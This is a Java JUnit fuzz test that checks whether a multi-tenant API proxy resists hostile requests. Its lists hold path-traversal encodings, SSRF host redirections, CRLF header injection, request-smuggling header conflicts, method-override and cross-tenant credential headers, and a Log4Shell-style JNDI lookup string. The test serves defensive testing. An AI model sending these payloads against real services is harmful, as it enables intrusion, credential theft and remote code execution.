package io.serai.proxy;

import static org.assertj.core.api.Assertions.assertThat;

import io.serai.FaultRuns;
import io.serai.RawHttp;
import io.serai.RecordingProvider;
import io.serai.RecordingProvider.Received;
import io.serai.Reply;
import io.serai.SeraiTester;
import io.serai.TenantClient;
import java.net.URI;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Requests that want to be something else than they are: the same ones in every run. Whatever the answer, what arrives at
 * the provider is below its base path, has its host, the caller's method and the tenant's credential; and nothing arrives
 * anywhere else.
 */
class HostileProxyTest {

    private static final long SEED = 20_261_126;

    private static final List<String> CLIMBS = List.of(
            "..",
            ".",
            "%2e%2e",
            "%2E.",
            ".%2e",
            "%252e%252e",
            "%25252e%25252e",
            "..%2f..",
            "..%5c..",
            "..\\..",
            "a%2f..%2f..",
            "..;",
            "..;a=b",
            "..%3b",
            "%2e%2e%3bx",
            "..%00",
            "..%20",
            "%20..",
            "..%09",
            "..%0d%0a",
            "%c0%ae%c0%ae",
            "%e0%80%ae%e0%80%ae",
            "%2f%2f{trap}",
            "%5c%5c{trap}",
            "@{trap}",
            "%40{trap}",
            ":80@{trap}",
            "%%32%65%%32%65",
            "%u002e%u002e",
            "%2",
            "%zz",
            "http:%2f%2f{trap}",
            "http://{trap}",
            "//{trap}",
            "/\\{trap}",
            "%0d%0aHost:%20{trap}",
            "%0d%0a%0d%0aGET%20/%20HTTP/1.1",
            "%23",
            "#",
            "%3f",
            "a;b",
            "~",
            "*",
            "{{x}}",
            "${header.x}",
            "#class:java.lang.String",
            "%ef%bc%8e%ef%bc%8e",
            "\u00e9",
            "x y",
            "%7f",
            "proxyHost={trap}&proxyPort=80");

    private static final List<String> QUERIES = List.of(
            "",
            "?token={key}",
            "?access_token={key}&a=1",
            "?%74oken={key}",
            "?TOKEN={key}",
            "?a=1;token={key}",
            "?url=http://{trap}/",
            "?proxyHost=127.0.0.1&proxyPort={port}",
            "?httpMethod=DELETE",
            "?CamelHttpUri=http://{trap}/",
            "?tenantId=globex",
            "?a=%0d%0aX-Evil:%201",
            "?//{trap}",
            "?#{trap}",
            "?a=%",
            "?tenant_id=globex&_method=DELETE",
            "?bridgeEndpoint=false");

    private static final List<String> HEADERS = List.of(
            "",
            "Host: {trap}",
            "X-Forwarded-Host: {trap}",
            "X-Forwarded-For: 127.0.0.1",
            "Forwarded: host={trap}",
            "X-Original-URL: http://{trap}/",
            "X-Rewrite-URL: /admin",
            "X-HTTP-Method-Override: DELETE",
            "X-Method-Override: PUT",
            "X-HTTP-Method: DELETE",
            "X-Tenant-ID: globex",
            "X_Tenant_ID: globex",
            "x-tenant-id: acme\r\nX-Tenant-ID: globex",
            "Authorization: Bearer {globex}",
            "X-API-Key: {globex}",
            "Cookie: token={globex}",
            "Proxy-Authorization: Basic eA==",
            "Connection: Authorization, Host",
            "Connection: close, X-Tenant-ID",
            "Upgrade: websocket",
            "Upgrade: h2c\r\nHTTP2-Settings: AA",
            "Transfer-Encoding: chunked\r\nContent-Length: 3",
            "Transfer-Encoding: gzip, chunked",
            "Transfer-Encoding : chunked",
            "Content-Length: 3\r\nContent-Length: 4",
            "Content-Length: -1",
            "Content-Length: 0x3",
            "Expect: 100-continue",
            "TE: trailers",
            "Trailer: Authorization",
            "CamelHttpUri: http://{trap}/",
            "CamelHttpPath: /admin",
            "CamelHttpMethod: DELETE",
            "CamelHttpQuery: a=b",
            "CamelHttpHost: {trap}",
            "X-Connection: ../globex",
            "X-Connection: GLOBEX",
            "X-User-ID: root",
            "X-GitHub-Api-Version: 2022-11-28\r\n X-Folded: 1",
            "Accept: a\rX-Evil: 1",
            "Accept: a\nX-Evil: 1",
            "Accept: \u0000",
            "User-Agent: ${jndi:ldap://{trap}/a}",
            "Via: 1.1 {trap}",
            "Max-Forwards: 0",
            "Idempotency-Key: ",
            "X-Serai-Tenant: globex",
            "Referer: http://{trap}/",
            "Origin: http://{trap}",
            "Location: http://{trap}",
            "Destination: http://{trap}/",
            "Range: bytes=0-0");

    private static final List<String> METHODS = List.of(
            "GET",
            "POST",
            "PUT",
            "PATCH",
            "DELETE",
            "HEAD",
            "OPTIONS",
            "TRACE",
            "CONNECT",
            "get",
            "PROPFIND",
            "G ET",
            "GET\t",
            "");

    private static final List<String> PLACES = List.of(
            "/proxy/github/",
            "/proxy/github/",
            "/proxy/github/",
            "/proxy/github@default/",
            "/proxy/github%40default/",
            "/proxy/github@globex/",
            "/proxy/github@../",
            "/proxy/git%68ub/",
            "/proxy/GITHUB/",
            "/proxy/github%2f..%2f/",
            "/proxy//github/",
            "/proxy/../proxy/github/",
            "/proxy/github/../../admin/",
            "http://{trap}/proxy/github/",
            "//{trap}/proxy/github/",
            "/proxy/http:%2f%2f{trap}/",
            "/proxy/{trap}/",
            "/proxy/notion/",
            "/proxy/@default/",
            "/proxy/github@/",
            "/api/v1/proxy/github/");

    /** All that may arrive, beside the families {@code accept-}, {@code content-} and {@code if-}. */
    private static final Set<String> EXPECTED = Set.of(
            "host", "authorization", "user-agent", "accept", "range", "x-github-api-version", "transfer-encoding");

    @AutoClose
    private static RecordingProvider vendor;

    @AutoClose
    private static RecordingProvider trap;

    @AutoClose
    private static SeraiTester serai;

    private static TenantClient acme;
    private static TenantClient globex;

    @BeforeAll
    static void start() {
        vendor = new RecordingProvider();
        trap = new RecordingProvider();
        Map<String, String> environment = new HashMap<>();
        environment.put("SERAI_PROVIDERS_GITHUB_BASE_URL", vendor.address() + "/base");
        environment.put("SERAI_PROVIDERS_NOTION_BASE_URL", trap.address());
        serai = SeraiTester.start(environment);
        acme = serai.newTenant("acme");
        acme.connect("github", "gho_acme");
        globex = serai.newTenant("globex");
        globex.connect("github", "gho_globex");
    }

    @Test
    void reachNoOtherHostTenantOrMethod() {
        // Given
        Random random = new Random(SEED);
        int passed = 0;

        for (int i = 0; i < FaultRuns.count(1_000, 20_000); i++) {
            // When
            String method = METHODS.get(pick(random, METHODS));
            String request = method + " " + one(random, PLACES) + climb(random) + one(random, QUERIES) + " HTTP/1.1\r\n"
                    + "Host: serai\r\nAuthorization: Bearer " + acme.key() + "\r\nConnection: close\r\n"
                    + header(random) + header(random) + body(method) + "\r\n" + (hasBody(method) ? "abc" : "");
            String sent = filled(request);
            String outcome = outcome(sent, method);

            // Then
            List<Received> received = vendor.take();
            assertThat(trap.take()).as(sent).isEmpty();
            for (Received one : received) {
                assertThat(one.method()).as(sent).isEqualTo(method.strip()); // a tab separates as well as a space
                assertThat(one.target()).as(sent).startsWith("/base/").doesNotContain(acme.key());
                assertThat(one.header("Host"))
                        .as(sent)
                        .isEqualTo(URI.create(vendor.address()).getAuthority());
                assertThat(one.header("Authorization")).as(sent).isEqualTo("Bearer gho_acme");
                assertThat(one.headers()).as(sent).allMatch(header -> isExpected(header.getKey()));
                assertThat(one.toString()).as(sent).doesNotContain(globex.key(), acme.key());
            }
            assertThat(received.size()).as("%s -> %s", sent, outcome).isLessThanOrEqualTo(1);
            passed += received.size();
        }
        assertThat(passed)
                .as("some of them are harmless, or this tests nothing")
                .isBetween(10, 900);
    }

    /** What the caller heard, if anything. */
    private static String outcome(String request, String method) {
        try (RawHttp http = new RawHttp(serai.api())) {
            http.send(request.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
            Reply reply = method.equals("HEAD") ? http.receiveHead() : http.receive();
            assertThat(reply.status()).as(request).isLessThan(500);
            return String.valueOf(reply.status());
        } catch (java.io.UncheckedIOException hungUp) {
            return "hung up";
        }
    }

    private static boolean isExpected(String name) {
        String lower = name.toLowerCase(Locale.ROOT);
        return EXPECTED.contains(lower)
                || lower.startsWith("accept-")
                || lower.startsWith("content-")
                || lower.startsWith("if-");
    }

    private static boolean hasBody(String method) {
        return List.of("POST", "PUT", "PATCH").contains(method);
    }

    private static String body(String method) {
        return hasBody(method) ? "Content-Type: text/plain\r\nContent-Length: 3\r\n" : "";
    }

    private static String climb(Random random) {
        List<String> segments = new ArrayList<>();
        for (int i = random.nextInt(4); i >= 0; i--) {
            segments.add(random.nextBoolean() ? one(random, CLIMBS) : "repos");
        }
        return String.join("/", segments);
    }

    private static String header(Random random) {
        String header = one(random, HEADERS);
        return header.isEmpty() ? "" : header + "\r\n";
    }

    private static String one(Random random, List<String> all) {
        return all.get(pick(random, all));
    }

    private static int pick(Random random, List<String> all) {
        return random.nextInt(all.size());
    }

    private static String filled(String request) {
        URI elsewhere = URI.create(trap.address());
        return request.replace("{trap}", elsewhere.getAuthority())
                .replace("{port}", String.valueOf(elsewhere.getPort()))
                .replace("{key}", acme.key())
                .replace("{globex}", globex.key());
    }
}
